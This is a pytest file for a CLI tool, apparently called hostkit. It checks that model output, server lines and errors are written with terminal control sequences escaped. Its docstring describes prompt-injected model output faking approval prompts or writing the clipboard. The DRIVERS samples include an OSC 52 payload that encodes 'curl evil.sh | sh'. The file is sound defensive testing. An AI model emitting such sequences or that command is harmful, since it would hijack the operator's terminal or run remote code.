"""Clause: what a model streams, or a server says, never drives the operator's terminal.

``hostkit run`` writes a turn's answer as it streams, and lines for the calls
it makes and the MCP servers it could not reach. A model (or a prompt
injection it read) can put ESC, C1 controls or bidi overrides in its words:
raw, they would clear the screen, paint a fake approval prompt above the real
one, retitle the window or write the clipboard (OSC 52). They are written as
escapes; line breaks, tabs and the rest of Unicode (joined emoji,
right-to-left words) stay as the model wrote them.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from rich.console import Console

from hostkit.cli._render import print_result
from hostkit.cli._turn import event_text, stream_turn
from hostkit.errors import ProviderError
from hostkit.testing import Fail, Reply, ScriptedModel
from tests.hosts import open_host

pytestmark = pytest.mark.anyio

DRIVERS = {
    "clear screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
    "c1 csi": "\x9b2J",
    "c1 osc": "\x9d0;pwned\x9c",
    "hidden text": "\x1b[8m",
    "carriage return": "approved\r",
    "backspace": "rm\x08\x08",
    "bidi override": "\u202e",
    "bidi isolate": "\u2067",
    "line separator": "\u2028",
}
# Said as written: lines, tabs, a joined emoji (ZWJ), a right-to-left word with its mark.
KEPT = "line one\n\tindented 👩\u200d💻 שלום\u200f done"


def _raw(text: str) -> list[str]:
    return [ch for ch in text if not (ch.isprintable() or ch in "\n\t\u200d\u200f")]


@pytest.mark.parametrize("driver", DRIVERS.values(), ids=DRIVERS.keys())
async def test_a_streamed_answer_is_written_without_what_drives_a_terminal(
    tmp_path: Path, driver: str
) -> None:
    answer = f"{KEPT}{driver}\napproval needed: the agent wants to run ls"
    async with open_host(tmp_path, ScriptedModel([Reply(answer)])) as host:
        out = io.StringIO()
        result = await stream_turn(host, "hi", agent="assistant", conversation="c1", out=out)
    assert result.outcome == "completed"
    written = out.getvalue()
    assert _raw(written) == []
    assert written.startswith(KEPT)
    assert ascii(driver[0])[1:-1] in written


@pytest.mark.parametrize("driver", DRIVERS.values(), ids=DRIVERS.keys())
def test_call_and_server_lines_are_written_escaped(driver: str) -> None:
    from hostkit.turns import TurnEvent

    def event(kind: str, **data: object) -> TurnEvent:
        return TurnEvent(kind, "req_1", "turn_1", "ses_1", data)

    lines = [
        event_text(event("mcp.unavailable", server=f"evil{driver}", detail=f"boom {driver}")),
        event_text(event("provider.completed", tool_calls=[f"x{driver}"])),
        event_text(event("provider.completed", tool_calls=["x"], effects_called=[f"y{driver}"])),
    ]
    for line in lines:
        assert line is not None
        assert _raw(line.rstrip("\n")) == []
        assert line.count("\n") == 1


@pytest.mark.parametrize("driver", DRIVERS.values(), ids=DRIVERS.keys())
async def test_a_turn_error_is_printed_escaped(tmp_path: Path, driver: str) -> None:
    failure = Fail(ProviderError(f"the upstream said {driver} no", provider="test"))
    async with open_host(tmp_path, ScriptedModel([failure])) as host:
        result = await stream_turn(host, "hi", agent="assistant", conversation="c1")
    assert result.outcome == "failed"
    shown = io.StringIO()
    print_result(Console(file=shown, width=400, color_system=None), result, database="db")
    assert _raw(shown.getvalue()) == []
    assert "the upstream said" in shown.getvalue()


def test_a_lone_surrogate_a_transcript_kept_is_written_as_its_escape() -> None:
    """Text kept before it was made valid where it enters (a stored answer shown again)
    has no bytes in any terminal encoding: written raw, it ended ``hostkit run`` in a
    ``UnicodeEncodeError`` traceback. It is written as its escape."""
    from hostkit.turns import TurnEvent

    line = event_text(TurnEvent("text.delta", "req_1", "turn_1", "ses_1", {"text": "caf\ud800!"}))
    assert line == "caf\\ud800!"
    line.encode("utf-8")
